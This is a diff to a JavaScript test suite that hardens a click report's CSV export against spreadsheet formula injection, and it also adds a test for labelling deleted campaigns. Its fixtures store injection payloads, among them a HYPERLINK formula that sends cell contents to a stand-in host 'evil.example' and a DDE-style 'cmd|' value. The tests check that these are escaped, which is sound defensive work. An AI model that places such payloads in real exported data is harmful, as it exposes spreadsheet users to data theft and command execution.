@@ -22,6 +22,8 @@ describe('report hardening', () => {
     await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: '=HYPERLINK("http://evil.example/?x="&A1,"click")' });
     await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: '@SUM(1+1)*cmd|x' });
     await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: '-2+3' });
+    await storeClick(t, fx, { country: 'FR', cost: '1.25', sub_id_1: '\tstart' });
+    await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: 'a,"b"' });
     await storeClick(t, wide, { country: 'DE', cost: '2' });
   });
 
@@ -121,7 +123,21 @@ describe('report hardening', () => {
     assert.ok(lines.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,-1`), lines.join('\n'));
     assert.ok(lines.includes(`'@SUM(1+1)*cmd|x,1,-1`), lines.join('\n'));
     assert.ok(lines.includes(`'-2+3,1,-1`), lines.join('\n'));
-    assert.ok(lines.every((line) => !/^[=+@-]/.test(line)));
+    // A tab first is escaped too; a comma or a quote is quoted; money without its trailing zeros.
+    assert.ok(lines.includes(`'\tstart,1,-1.25`), lines.join('\n'));
+    assert.ok(lines.includes(`"a,""b""",1,-1`), lines.join('\n'));
+    assert.ok(lines.every((line) => !/^[=+@\t-]/.test(line)));
+  });
+
+  it('labels an entity by its name in a CSV export, a deleted one with its id, and prints a rate of 0 as 0', async () => {
+    const lines = async () =>
+      (await exportOf(wide, { period: 'today', dimensions: ['campaign'], metrics: ['clicks', 'cost', 'cr'] })).body
+        .trim()
+        .split('\n');
+    assert.deepEqual(await lines(), ['Campaign,Clicks,Cost,"CR, %"', 'Campaign,1,2,0']);
+    await query(t, 'update campaigns set deleted_at = now() where id = $1', [wide.campaign_id]);
+    const label = `Campaign [deleted ${wide.campaign_id.slice(0, 8)}]`;
+    assert.deepEqual(await lines(), ['Campaign,Clicks,Cost,"CR, %"', `${label},1,2,0`]);
   });
 
   it('answers malformed report parameters with 400 naming the field, never 500', async () => {
